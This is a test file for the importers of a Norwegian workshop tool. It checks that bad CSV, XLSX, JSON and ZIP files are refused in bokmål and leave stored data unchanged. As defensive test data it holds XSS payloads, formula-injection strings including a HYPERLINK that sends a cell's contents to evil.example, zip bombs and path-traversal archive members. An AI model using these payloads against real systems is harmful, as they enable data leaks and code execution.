"""Bad files to every importer: a message in bokmål that names the problem, and nothing stored changes.

The importers are the stakeholder register (CSV/XLSX, ``samskaping stakeholders import``),
the steps of a service journey (CSV/XLSX, ``samskaping journeys import``; JSON,
:func:`~samskaping.journeys.io.read_journey_json`) and a whole workshop (JSON or ZIP,
``samskaping import``). Each runs in-process on a fresh copy of a store holding the demo
workshop (ideas, stakeholders, journeys, themes, votes, concepts, evaluations), and the
whole store is compared before and after: every row of every table, and every
workshop's export, byte for byte.

The properties, for every file hypothesis makes:

* the command either imports or exits 1 with a sentence in bokmål on stderr that names
  the problem; never a traceback, never an English exception name;
* a refused file changes nothing; an import that fails half-way (a full disk) leaves
  nothing half-imported;
* text that is accepted is stored as :func:`~samskaping.core.models.clean_text` and the
  personal-data guard make it, and leaves again in CSV without ever being a formula.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import shutil
import tempfile
import time
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from samskaping.cli import main
from samskaping.core.exceptions import InvalidInputError, SamskapingError
from samskaping.core.i18n import error_text
from samskaping.core.models import clean_text
from samskaping.core.privacy.detect import mask
from samskaping.core.tables import FORMULA_START, MAX_IMPORT_BYTES, MAX_XLSX_PART, unguard
from samskaping.demo import create_demo
from samskaping.journeys.io import journey_json, read_journey_json
from samskaping.journeys.model import Journey, Step
from samskaping.stakeholders.io import describe, read_stakeholder_file
from samskaping.stakeholders.model import MAX_NAME_LENGTH
from samskaping.store import STORE_FILENAME, Store
from samskaping.store.archive import MAX_ARCHIVE_JSON, read_zip

EXAMPLES = settings(max_examples=40, deadline=None)
FEW = settings(max_examples=15, deadline=None)

#: What a person must never see: a traceback, an exception's class name, Python's or a codec's own English.
ENGLISH = re.compile(
    r"Traceback|\b[A-Z]\w*(Error|Exception)\b|BadZipFile|NoneType|Expecting|codec can't|has no attribute|"
    r"unhashable|not supported between|object is not|positional argument|keyword argument"
)
#: Control and bidi characters (but tab and line break): a file's cell must not bring them to the terminal.
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")
#: Every sentence of the catalogue's import messages has some of these words.
NORWEGIAN = re.compile(r"\b(ikke|kan|mangler|filen|feltet|rad|er|og|prøv|igjen|for)\b", re.IGNORECASE)

#: Text a hostile or careless file carries: empty, white space, very long, control characters,
#: right-to-left overrides, HTML and JavaScript, SVG, spreadsheet formulas and personal data.
HOSTILE = [
    "", " ", "\t \u00a0\u2003", "x" * 100_000, "NUL\x00midt", "\x07\x1b[31mrød\x1b[0m\x7f\x85",
    "\u202eLES BAKLENGS\u202c", "\u200f\u2066høyre\u2069\ufeff", "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">', "<svg onload=alert(1)>",
    '"><svg/onload=alert(1)>', '=HYPERLINK("http://evil.example/?d="&A1;"Klikk")', "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1",
    "Ring Kari Nordmann på 912 34 567",
]
FORMULAS = ['=HYPERLINK("http://evil.example";"x")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "=1+1", "-1+1", "=2+2"]


def hostile_text(*, nul: bool = True) -> st.SearchStrategy[str]:
    """One of :data:`HOSTILE`, or any text (all of Unicode but lone surrogates), with or without NUL."""
    chars = st.characters(exclude_categories=("Cs",), exclude_characters="" if nul else "\x00")
    pool = HOSTILE if nul else [text for text in HOSTILE if "\x00" not in text]
    return st.one_of(st.sampled_from(pool), st.text(chars, max_size=300))


# --- The store before and after ---------------------------------------------------------------


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> Path:
    """A data folder holding the demo workshop, made once; tests work on copies (:func:`copy_of`)."""
    folder = tmp_path_factory.mktemp("demo-data")
    with Store(folder / STORE_FILENAME) as store:
        workshop = create_demo(store)
    (folder / "workshop.id").write_text(workshop.id)
    return folder


@contextlib.contextmanager
def copy_of(template: Path):
    """A fresh data folder with the template's store, for one example."""
    with tempfile.TemporaryDirectory() as folder:
        shutil.copy(template / STORE_FILENAME, Path(folder) / STORE_FILENAME)
        yield Path(folder)


def snapshot(data_dir: Path) -> bytes:
    """Everything stored: every row of every table, and the export of every workshop, as bytes."""
    with Store(data_dir / STORE_FILENAME) as store:
        tables = [name for (name,) in store.db._db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        rows = {name: sorted(repr(tuple(row)) for row in store.db._db.execute(f'SELECT * FROM "{name}"'))
                for name in tables}
        exports = {workshop.id: store.archive.export_workshop(workshop.id) for workshop in store.workshops.list()}
    return json.dumps({"rows": rows, "exports": exports}, sort_keys=True, ensure_ascii=False).encode("utf-8")


def run(*argv: str) -> tuple[int, str, str]:
    """``samskaping ARGV`` in this process: exit code, stdout, stderr (an escaping exception fails the test)."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(list(argv))
    return code, out.getvalue(), err.getvalue()


def assert_norwegian(message: str) -> None:
    """A sentence a person can act on: not empty, in bokmål, without Python's own words."""
    assert message.strip(), "no message at all"
    assert not ENGLISH.search(message), message
    assert NORWEGIAN.search(message), message


def assert_refused(data_dir: Path, before: bytes, argv: list[str], *names_the_problem: str) -> str:
    """Run the command; it must exit 1 with a bokmål message naming the problem, and change nothing."""
    code, _, err = run(*argv, "--data-dir", str(data_dir))
    assert code == 1, err
    assert_norwegian(err)
    assert not CONTROL.search(err), f"a control character from the file reached the terminal: {err!r}"
    for words in names_the_problem:
        assert words in err, err
    assert snapshot(data_dir) == before
    return err


def demo_id(template: Path) -> str:
    return (template / "workshop.id").read_text()


# --- Files ------------------------------------------------------------------------------------


def csv_bytes(rows: list[list[str]], *, encoding: str = "utf-8-sig", delimiter: str = ",") -> bytes:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, delimiter=delimiter).writerows(rows)
    return buffer.getvalue().encode(encoding, errors="replace")


def xlsx_bytes(rows: list[list[object]], *, text_cells: bool = True) -> bytes:
    """A workbook with ``rows``; ``text_cells`` keeps a cell like ``=1+1`` as text, otherwise it is a formula."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    workbook = Workbook()
    sheet = workbook.active
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row, start=1):
            if isinstance(value, str):
                value = ILLEGAL_CHARACTERS_RE.sub("", value)[:32_000]  # what a worksheet cell can hold
            cell = sheet.cell(row=r, column=c, value=value)
            if text_cells and isinstance(value, str) and value.startswith("="):
                cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def write(folder: Path, name: str, data: bytes) -> str:
    path = folder / name
    path.write_bytes(data)
    return str(path)


IMPORTS = {
    "stakeholders": lambda workshop, path: ["stakeholders", "import", workshop, path],
    "journeys": lambda workshop, path: ["journeys", "import", workshop, path, "--title", "Importert reise"],
}


# --- Stakeholder and journey sheets -----------------------------------------------------------


@EXAMPLES
@given(data=st.binary(max_size=4096), suffix=st.sampled_from([".csv", ".txt", ".xlsx"]),
       kind=st.sampled_from(sorted(IMPORTS)))
def test_random_bytes_as_a_sheet_are_refused_and_change_nothing(template, data, suffix, kind):
    with copy_of(template) as folder:
        before = snapshot(folder)
        assert_refused(folder, before, IMPORTS[kind](demo_id(template), write(folder, "fil" + suffix, data)))


#: Headings that are no column of either table: letters no synonym is spelt with.
_WRONG_HEADING = st.text(st.sampled_from("xyzqwXYZ 0123456789"), min_size=1, max_size=12).filter(str.strip)


@EXAMPLES
@given(headings=st.lists(_WRONG_HEADING, min_size=1, max_size=6, unique=True),
       cells=st.lists(hostile_text(nul=False), max_size=6),
       encoding=st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "cp1252"]),
       delimiter=st.sampled_from([",", ";", "\t"]),
       fmt=st.sampled_from(["csv", "xlsx"]), kind=st.sampled_from(sorted(IMPORTS)))
def test_a_sheet_with_the_wrong_columns_is_refused_naming_the_missing_column(
    template, headings, cells, encoding, delimiter, fmt, kind
):
    rows = [headings, (cells + [""] * len(headings))[: len(headings)]]
    data = xlsx_bytes(rows) if fmt == "xlsx" else csv_bytes(rows, encoding=encoding, delimiter=delimiter)
    with copy_of(template) as folder:
        before = snapshot(folder)
        err = assert_refused(folder, before, IMPORTS[kind](demo_id(template), write(folder, "liste." + fmt, data)))
        assert "mangler kolonnen" in err


_BAD_SCORE = st.one_of(st.sampled_from(FORMULAS + ["", " ", "fem", "0", "6", "2,5", "NaN", "inf", "1e9", "−7"]),
                       st.text(st.characters(exclude_categories=("Cs", "Nd"), exclude_characters="\x00"), max_size=20))


@EXAMPLES
@given(rows=st.lists(st.tuples(hostile_text(nul=False), _BAD_SCORE, _BAD_SCORE), min_size=1, max_size=8),
       fmt=st.sampled_from(["csv", "xlsx"]))
def test_a_register_whose_rows_are_all_bad_is_refused_row_by_row(template, rows, fmt):
    """Scores that are formulas, words, out of range or empty: every row is reported by its number."""
    table = [["Navn", "Interesse", "Innflytelse"], *[list(row) for row in rows]]
    data = xlsx_bytes(table) if fmt == "xlsx" else csv_bytes(table)
    with copy_of(template) as folder:
        before = snapshot(folder)
        path = write(folder, "liste." + fmt, data)
        code, out, err = run("stakeholders", "import", demo_id(template), path, "--data-dir", str(folder))
        assert code == 1, err
        assert "Importerte 0 interessenter" in out
        assert_norwegian(err)
        assert "Rad " in err or "tom" in err  # a row by its number, or the file is empty (all rows blank)
        assert snapshot(folder) == before


def _expected_name(cell: str) -> str | None:
    """What the register stores for a name cell: unguarded, cleaned, masked; ``None`` if the row is refused."""
    name = unguard(cell).strip()
    if len(name) > MAX_NAME_LENGTH:
        return None
    try:
        return mask(clean_text(name, field="name", max_length=MAX_NAME_LENGTH)).text
    except InvalidInputError:
        return None


@EXAMPLES
@given(names=st.lists(hostile_text(nul=False), min_size=1, max_size=8), fmt=st.sampled_from(["csv", "xlsx"]))
def test_hostile_names_are_stored_cleaned_and_leave_as_text_never_a_formula(template, names, fmt):
    table = [["Navn", "Interesse", "Innflytelse", "Notater"], *[[name, "3", "4", name[:500]] for name in names]]
    cells = [_worksheet_text(name) for name in names] if fmt == "xlsx" else names
    expected = [_expected_name(cell) for cell in cells]
    data = xlsx_bytes(table) if fmt == "xlsx" else csv_bytes(table)
    with copy_of(template) as folder:
        before = {s.id for s in _stakeholders(folder, template)}
        path = write(folder, "liste." + fmt, data)
        code, out, err = run("stakeholders", "import", demo_id(template), path, "--data-dir", str(folder))
        accepted = [name for name in expected if name is not None]
        assert code == (0 if accepted else 1), err
        assert f"Importerte {len(accepted)} interessenter" in out
        if len(accepted) < len(expected):
            assert_norwegian(err)
            assert "Rad " in err
        stored = [s for s in _stakeholders(folder, template) if s.id not in before]
        assert sorted(s.name for s in stored) == sorted(accepted)

        code, out, _ = run("stakeholders", "export", demo_id(template), "--format", "csv", "--out", "-",
                           "--data-dir", str(folder))
        assert code == 0
        for row in csv.reader(io.StringIO(out.lstrip("\ufeff"), newline="")):
            for cell in row:
                assert not cell.startswith(FORMULA_START) or cell.lstrip("-").isdigit(), cell


def _worksheet_text(text: str) -> str:
    """What a text cell of :func:`xlsx_bytes` reads back as (XML keeps no lone CR: it reads as LF)."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    return ILLEGAL_CHARACTERS_RE.sub("", text)[:32_000].replace("\r\n", "\n").replace("\r", "\n")


def _stakeholders(folder: Path, template: Path) -> list:
    with Store(folder / STORE_FILENAME) as store:
        return store.stakeholders.list(demo_id(template))


def test_a_nul_byte_makes_a_csv_file_a_binary_file_and_nothing_is_stored(template):
    data = csv_bytes([["Navn", "Interesse", "Innflytelse"], ["NAV\x00", "3", "4"]])
    with copy_of(template) as folder:
        before = snapshot(folder)
        for kind in IMPORTS:
            err = assert_refused(folder, before, IMPORTS[kind](demo_id(template), write(folder, "liste.csv", data)))
            assert "binærfil" in err and "CSV" in err


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_every_encoding_norwegian_spreadsheets_write_reads_the_same_names(template, encoding):
    names = ["Barnehage på Ås", "Helsestasjonen Øst", "Æresrådet"]
    data = csv_bytes([["Navn", "Interesse", "Innflytelse"], *[[name, "3", "4"] for name in names]],
                     encoding=encoding, delimiter=";")
    with copy_of(template) as folder:
        before = {s.id for s in _stakeholders(folder, template)}
        code, _, err = run("stakeholders", "import", demo_id(template), write(folder, "liste.csv", data),
                           "--data-dir", str(folder))
        assert code == 0, err
        assert sorted(s.name for s in _stakeholders(folder, template) if s.id not in before) == sorted(names)


@pytest.mark.parametrize("encoding, problem", [("utf-16-le", "binærfil"), ("utf-32", "mangler kolonnen")])
def test_utf16_without_its_mark_and_utf32_are_refused(template, encoding, problem):
    """UTF-16 without a byte order mark looks binary; UTF-32 reads as UTF-16 with NULs, so no column is known."""
    rows = [["Navn", "Interesse", "Innflytelse"], ["NAV", "3", "4"]]
    with copy_of(template) as folder:
        before = snapshot(folder)
        path = write(folder, "liste.csv", csv_bytes(rows, encoding=encoding))
        assert_refused(folder, before, IMPORTS["stakeholders"](demo_id(template), path), problem)


def test_formulas_in_a_workbook_are_never_run_and_a_score_formula_without_a_value_is_reported(template):
    """A formula cell with no computed value (as openpyxl writes it) is empty to the import, not run."""
    data = xlsx_bytes([["Navn", "Interesse", "Innflytelse"], ['=HYPERLINK("http://evil.example","x")', 3, 4],
                       ["PPT", "=2+1", 4]], text_cells=False)
    with copy_of(template) as folder:
        before = snapshot(folder)
        err = assert_refused(folder, before, IMPORTS["stakeholders"](
            demo_id(template), write(folder, "liste.xlsx", data)), "Rad 2", "Rad 3")
        assert "navnet mangler" in err and "interesse mangler" in err


@FEW
@given(cut=st.floats(0.0, 0.98), kind=st.sampled_from(sorted(IMPORTS)))
def test_a_truncated_workbook_is_refused_as_damaged(template, cut, kind):
    data = xlsx_bytes([["Navn", "Fase", "Tjeneste", "Hva skjer", "Interesse", "Innflytelse"],
                       ["NAV", "Kartlegging", "NAV", "Møte", 3, 4]])
    with copy_of(template) as folder:
        before = snapshot(folder)
        path = write(folder, "skadet.xlsx", data[: int(len(data) * cut)])
        assert "kunne ikke åpnes som en Excel-arbeidsbok" in assert_refused(
            folder, before, IMPORTS[kind](demo_id(template), path)
        )


@EXAMPLES
@given(flips=st.lists(st.tuples(st.floats(0.0, 0.999), st.integers(1, 255)), min_size=1, max_size=8))
def test_a_workbook_with_damaged_bytes_gives_rows_or_problems_never_an_exception(flips):
    data = bytearray(xlsx_bytes([["Navn", "Interesse", "Innflytelse"], ["NAV", 3, 4], ["PPT", 5, 2]]))
    for where, bits in flips:
        data[int(where * len(data))] ^= bits
    result = read_stakeholder_file(bytes(data), "skadet.xlsx", "w1")
    assert result.stakeholders or result.problems
    for problem in result.problems:
        assert_norwegian(describe(problem))


def test_a_sheet_over_the_size_cap_is_refused_unread(template):
    data = b"Navn;Interesse;Innflytelse\n" + b"NAV;3;4\n" * (MAX_IMPORT_BYTES // 8 + 1)
    assert len(data) > MAX_IMPORT_BYTES
    with copy_of(template) as folder:
        before = snapshot(folder)
        for kind in IMPORTS:
            start = time.monotonic()
            err = assert_refused(folder, before, IMPORTS[kind](demo_id(template), write(folder, "stor.csv", data)),
                                 "for stor", f"{MAX_IMPORT_BYTES // 2**20} MB")
            assert time.monotonic() - start < 5, "the file was read, not refused"
            assert "stor.csv" in err


def test_a_workbook_that_unpacks_to_gigabytes_is_refused_unopened(template):
    """A zip bomb of a workbook: a valid workbook whose shared strings unpack to over the cap."""
    buffer = io.BytesIO(xlsx_bytes([["Navn", "Interesse", "Innflytelse"], ["NAV", 3, 4]]))
    with (
        zipfile.ZipFile(buffer, "a", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as workbook,
        workbook.open("xl/media/bombe.xml", "w", force_zip64=True) as member,
    ):
        chunk = b" " * 2**20
        for _ in range(MAX_XLSX_PART // 2**20 + 1):
            member.write(chunk)
    data = buffer.getvalue()
    assert len(data) < MAX_IMPORT_BYTES  # small on disk: only the unpacked size gives it away
    with copy_of(template) as folder:
        before = snapshot(folder)
        for kind in IMPORTS:
            assert_refused(folder, before, IMPORTS[kind](demo_id(template), write(folder, "bombe.xlsx", data)),
                           "for stor", f"{MAX_XLSX_PART // 2**20} MB")


@pytest.mark.parametrize("name, message", [("liste.xls", "gamle Excel-formatet"), ("liste.docx", "kan ikke leses"),
                                           ("liste", "kan ikke leses")])
def test_a_file_of_another_kind_is_named_with_the_formats_that_work(template, name, message):
    with copy_of(template) as folder:
        before = snapshot(folder)
        for kind in IMPORTS:
            assert_refused(folder, before, IMPORTS[kind](demo_id(template), write(folder, name, b"navn\n")),
                           name, message)


def test_a_missing_file_or_a_folder_is_named(template):
    with copy_of(template) as folder:
        before = snapshot(folder)
        for kind in IMPORTS:
            for path in (folder / "finnes-ikke.csv", folder):
                assert_refused(folder, before, IMPORTS[kind](demo_id(template), str(path)), "Finner ikke filen")


# --- Whole workshops: JSON and ZIP ------------------------------------------------------------


@EXAMPLES
@given(data=st.binary(max_size=4096), suffix=st.sampled_from([".json", ".zip", ".txt"]))
def test_random_bytes_as_a_workshop_export_are_refused(template, data, suffix):
    with copy_of(template) as folder:
        before = snapshot(folder)
        assert_refused(folder, before, ["import", write(folder, "verksted" + suffix, data)], "er ikke en eksport")


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | hostile_text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12,
)


@EXAMPLES
@given(value=_JSON)
def test_json_that_is_not_a_workshop_export_is_refused(template, value):
    with copy_of(template) as folder:
        before = snapshot(folder)
        raw = json.dumps(value, ensure_ascii=False).encode("utf-8", errors="surrogatepass")
        assert_refused(folder, before, ["import", write(folder, "annet.json", raw)], "er ikke en eksport")


def _export(template: Path) -> dict:
    with Store(template / STORE_FILENAME) as store:
        return {"format": "samskaping-workshop", "version": 1, **store.archive.export_workshop(demo_id(template))}


_VALUES = st.one_of(st.none(), st.booleans(), st.integers(), st.just(2**70), st.floats(allow_nan=False),
                    hostile_text(nul=False), st.lists(st.integers(), max_size=2),
                    st.dictionaries(st.text(max_size=4), st.integers(), max_size=2),
                    st.just("ikke-en-id"), st.just("2024-13-45T99:00"))


@st.composite
def damage(draw, export: dict) -> dict:
    """The export with one to three parts damaged: a value changed, a field dropped or added, a part replaced."""
    data = json.loads(json.dumps(export))
    for _ in range(draw(st.integers(1, 3))):
        part = draw(st.sampled_from(sorted(export)))
        how = draw(st.sampled_from(["value", "drop", "add", "part", "item"]))
        target = data.get(part)
        if how == "part" or not target:
            data[part] = draw(_VALUES)
            continue
        if isinstance(target, list):
            index = draw(st.integers(0, len(target) - 1))
            if how == "item" or not isinstance(target[index], dict):
                target[index] = draw(_VALUES)
                continue
            target = target[index]
        if not isinstance(target, dict) or not target:
            continue
        key = draw(st.sampled_from(sorted(target)))
        if how == "drop":
            del target[key]
        elif how == "add":
            target[draw(st.text(min_size=1, max_size=8))] = draw(_VALUES)
        else:
            target[key] = draw(_VALUES)
    return data


_COUNTED = ("ideas", "stakeholders", "relations", "journeys", "concepts", "evaluations", "themes")


@settings(max_examples=60, deadline=None)
@given(data=st.data())
def test_a_damaged_export_is_imported_whole_or_refused_with_nothing_stored(template, data):
    damaged = data.draw(damage(_export(template)))
    with copy_of(template) as folder:
        before = snapshot(folder)
        path = write(folder, "skadet.json", json.dumps(damaged, ensure_ascii=False).encode("utf-8", "surrogatepass"))
        code, out, err = run("import", path, "--data-dir", str(folder))
        if code == 1:
            assert_norwegian(err)
            assert snapshot(folder) == before
            return
        assert code == 0, err
        with Store(folder / STORE_FILENAME) as store:
            # With hidden posts: a damaged file may mark an idea hidden, and it is kept, hidden.
            copy = store.archive.export_workshop(out.split()[-1], include_hidden=True)
            # What was stored before is untouched: the file's parts went to the new workshop only.
            assert store.archive.export_workshop(demo_id(template)) == json.loads(before)["exports"][demo_id(template)]
        for part in _COUNTED:  # all of it: every idea, stakeholder, journey ... of the file
            assert len(copy[part]) == len(damaged.get(part) or []), part
        steps = sum(len(journey.get("steps") or []) for journey in damaged.get("journeys") or [])
        assert sum(len(journey["steps"]) for journey in copy["journeys"]) == steps


@pytest.mark.parametrize("make, problem", [
    (lambda raw: raw[: len(raw) // 2], "ikke gyldig JSON (feil på linje"),
    (lambda raw: raw.decode("utf-8").encode("utf-16"), "ikke lagret som UTF-8"),
    (lambda raw: raw.decode("utf-8").encode("cp1252", errors="replace"), "ikke lagret som UTF-8"),
    (lambda raw: b"[" * 100_000 + b"]" * 100_000, "nøstet for dypt"),
    (lambda raw: raw.replace(b'"version": 1', b'"version": "2"'), "eksportversjon «2»"),
    (lambda raw: raw.replace(b'"version": 1', b'"version": true'), "eksportversjon «True»"),
    (lambda raw: raw.replace(b'"version": 1', b'"version": 99'), "eksportversjon «99»"),
    (lambda raw: raw.replace(b'"format": "samskaping-workshop"', b'"format": "<script>"'), '"format"'),
    (lambda raw: json.dumps({**json.loads(raw), "ideas": {"x": 1}}).encode(), "«ideas» skulle vært en liste"),
    (lambda raw: json.dumps({**json.loads(raw), "themes": [{"id": "t1"}]}).encode(),
     "«themes» kan ikke leses (oppføring nr. 1)"),
])
def test_a_broken_export_file_is_refused_naming_what_is_wrong(template, make, problem):
    raw = json.dumps(_export(template), ensure_ascii=False).encode("utf-8")
    with copy_of(template) as folder:
        before = snapshot(folder)
        assert_refused(folder, before, ["import", write(folder, "verksted.json", make(raw))], problem)


def _edited(template: Path, edit) -> bytes:
    data = _export(template)
    edit(data)
    return json.dumps(data, ensure_ascii=False).encode("utf-8")


@pytest.mark.parametrize("edit, problem", [
    (lambda d: d["ideas"].append(dict(d["ideas"][0])), "«ideas» har samme id mer enn én gang"),
    (lambda d: d["dots"].append({**d["dots"][0], "idea_id": "en-annens-idé"}), "henger ikke sammen"),
    (lambda d: d["merges"].append({"idea_id": d["ideas"][0]["id"], "into_id": "en-annens-idé"}), "henger ikke sammen"),
    (lambda d: d["relations"][0].update(target_id="en-annens-interessent"), "henger ikke sammen"),
    (lambda d: d["stakeholder_moves"][0].update(stakeholder_id="en-annens-interessent"), "henger ikke sammen"),
    (lambda d: d["voting"].update(state="<script>"), "er ikke et gyldig valg"),
    (lambda d: d["stage"].update(step=-1), "«stage» kan ikke leses"),
])
def test_an_export_whose_parts_do_not_fit_together_is_refused(template, edit, problem):
    with copy_of(template) as folder:
        before = snapshot(folder)
        assert_refused(folder, before, ["import", write(folder, "redigert.json", _edited(template, edit))], problem)


def test_an_export_whose_parts_another_workshop_holds_becomes_a_copy_and_takes_nothing(template):
    """A new workshop id around the demo's own ideas and stakeholders: they must not move to the new one."""
    def edit(data):
        data["workshop"]["id"] = "ny-verksted-id"
        for item in (*data["ideas"], *data["stakeholders"], *data["relations"], *data["journeys"], *data["concepts"]):
            item["workshop_id"] = "ny-verksted-id"
        data["arrivals"][0]["stakeholder_id"] = "slettet-siden"  # a stakeholder deleted after the arrival: kept

    with copy_of(template) as folder:
        demo = json.loads(snapshot(folder))["exports"][demo_id(template)]
        code, out, err = run("import", write(folder, "kopi.json", _edited(template, edit)), "--data-dir", str(folder))
        assert code == 0, err
        with Store(folder / STORE_FILENAME) as store:
            assert store.archive.export_workshop(demo_id(template)) == demo
            copy = store.archive.export_workshop(out.split()[-1])
        assert [i["text"] for i in copy["ideas"]] == [i["text"] for i in demo["ideas"]]
        assert not {i["id"] for i in copy["ideas"]} & {i["id"] for i in demo["ideas"]}


def test_an_export_with_a_byte_order_mark_imports(template):
    raw = json.dumps(_export(template), ensure_ascii=False).encode("utf-8-sig")
    with copy_of(template) as folder:
        code, _, err = run("import", write(folder, "bom.json", raw), "--data-dir", str(folder))
        assert code == 0, err


def test_an_export_over_the_size_cap_is_refused_unread(template):
    with copy_of(template) as folder:
        before = snapshot(folder)
        path = folder / "enorm.json"
        with open(path, "wb") as file:  # sparse: the size is there, the bytes are never written or read
            file.truncate(MAX_ARCHIVE_JSON + 1)
        start = time.monotonic()
        assert_refused(folder, before, ["import", str(path)], f"større enn {MAX_ARCHIVE_JSON // 2**20} MB")
        assert time.monotonic() - start < 5


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _encrypted(data: bytes) -> bytes:
    """The archive with every member flagged as encrypted (bit 0 of the flags), as a password-protected ZIP is."""
    data = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(signature)
        while start != -1:
            data[start + offset] |= 1
            start = data.find(signature, start + 4)
    return bytes(data)


def test_a_damaged_or_foreign_archive_is_refused_naming_what_is_wrong(template):
    good = json.dumps(_export(template), ensure_ascii=False).encode("utf-8")
    archive = _zip({"workshop.json": good})
    cases = {
        "avkuttet.zip": (archive[:-30], "ikke et ZIP-arkiv"),
        "uten.zip": (_zip({"annet.json": good}), "mangler workshop.json"),
        "kryptert.zip": (_encrypted(archive), "skadet, kryptert"),
        "ikke-json.zip": (_zip({"workshop.json": b"\xff\xfe<html>"}), "ikke lagret som UTF-8"),
        "feil-format.zip": (_zip({"workshop.json": b'{"format": "x", "workshop": {}}'}), '"format"'),
    }
    with copy_of(template) as folder:
        before = snapshot(folder)
        for name, (data, problem) in cases.items():
            assert_refused(folder, before, ["import", write(folder, name, data)], name, problem)


@FEW
@given(flips=st.lists(st.tuples(st.floats(0.0, 0.999), st.integers(1, 255)), min_size=1, max_size=6))
def test_an_archive_with_damaged_bytes_is_refused_or_imported_whole(template, flips):
    data = bytearray(_zip({"workshop.json": json.dumps(_export(template)).encode("utf-8")}))
    for where, bits in flips:
        data[int(where * len(data))] ^= bits
    with copy_of(template) as folder:
        before = snapshot(folder)
        code, _, err = run("import", write(folder, "skadet.zip", bytes(data)), "--data-dir", str(folder))
        if code == 1:
            assert_norwegian(err)
            assert snapshot(folder) == before
        else:
            assert code == 0, err


def test_member_names_that_climb_out_of_the_folder_are_never_unpacked(template):
    good = json.dumps(_export(template), ensure_ascii=False).encode("utf-8")
    with copy_of(template) as folder:
        target = folder / "inne" / "arkiv.zip"
        target.parent.mkdir()
        data = _zip({"workshop.json": good, "../../utenfor.txt": b"ondt", "/tmp/samskaping-absolutt.txt": b"ondt",
                     "..\\..\\windows.txt": b"ondt"})
        target.write_bytes(data)
        code, _, err = run("import", str(target), "--data-dir", str(folder))
        assert code == 0, err
        assert not (folder / "utenfor.txt").exists() and not (folder.parent / "utenfor.txt").exists()
        assert not Path("/tmp/samskaping-absolutt.txt").exists()
        assert sorted(p.name for p in folder.rglob("*") if p.is_file() and "sqlite" not in p.name) == ["arkiv.zip"]


@pytest.fixture(scope="module")
def zip_bomb(tmp_path_factory) -> Path:
    """An archive of about a megabyte whose workshop.json unpacks to more than :data:`MAX_ARCHIVE_JSON`."""
    path = tmp_path_factory.mktemp("bombe") / "bombe.zip"
    with (
        zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("workshop.json", "w", force_zip64=True) as member,
    ):
        chunk = b" " * 2**20
        for _ in range(MAX_ARCHIVE_JSON // 2**20 + 1):
            member.write(chunk)
    return path


def test_a_zip_bomb_is_refused_without_unpacking_it(template, zip_bomb):
    assert zip_bomb.stat().st_size < 2 * 2**20
    with copy_of(template) as folder:
        before = snapshot(folder)
        start = time.monotonic()
        assert_refused(folder, before, ["import", str(zip_bomb)], "for stor")
        assert time.monotonic() - start < 2, "the archive was unpacked"


def test_read_zip_refuses_a_member_whose_directory_lies_about_its_size(tmp_path, monkeypatch):
    """The size in the central directory may lie; reading stops at the cap all the same."""
    import samskaping.store.archive as export

    path = tmp_path / "lyver.zip"
    path.write_bytes(_zip({"workshop.json": b" " * 5000}))
    monkeypatch.setattr(export, "MAX_ARCHIVE_JSON", 1000)
    with pytest.raises(SamskapingError) as caught:
        read_zip(path)
    assert_norwegian(error_text(caught.value))


# --- Half-way failures --------------------------------------------------------------------------


@pytest.fixture
def full_disk_after(monkeypatch):
    """Make the command line's store run out of disk after ``pages`` more pages (a full disk mid-import)."""
    import samskaping.cli as cli

    def install(pages: int) -> None:
        def open_store(data_dir=None):
            store = Store(Path(data_dir) / STORE_FILENAME)
            count = store.db._db.execute("PRAGMA page_count").fetchone()[0]
            store.db._db.execute(f"PRAGMA max_page_count = {count + pages}")
            return store

        monkeypatch.setattr(cli, "open_store", open_store)

    return install


HALF_WAY_IMPORTS = {
    "stakeholders": ("liste.csv", [["Navn", "Interesse", "Innflytelse", "Notater"]]
                     + [[f"Interessent {i}", "3", "4", "n" * 1500] for i in range(400)]),
    "journeys": ("reise.csv", [["Fase", "Tjeneste", "Hva skjer", "Smertepunkt"]]
                 + [["Kartlegging", "PPT", f"Steg {i}", "p" * 900] for i in range(400)]),
}


@pytest.mark.parametrize("kind", HALF_WAY_IMPORTS)
def test_a_register_or_journey_import_that_fails_half_way_stores_none_of_it(template, full_disk_after, kind):
    name, rows = HALF_WAY_IMPORTS[kind]
    with copy_of(template) as folder:
        before = snapshot(folder)
        full_disk_after(20)
        assert_refused(folder, before, IMPORTS[kind](demo_id(template), write(folder, name, csv_bytes(rows))),
                       "Disken er full")


def test_a_workshop_import_that_fails_half_way_stores_none_of_it(template, full_disk_after):
    raw = json.dumps(_export(template), ensure_ascii=False).encode("utf-8")
    with copy_of(template) as folder:
        before = snapshot(folder)
        full_disk_after(5)
        assert_refused(folder, before, ["import", write(folder, "verksted.json", raw)], "Disken er full")


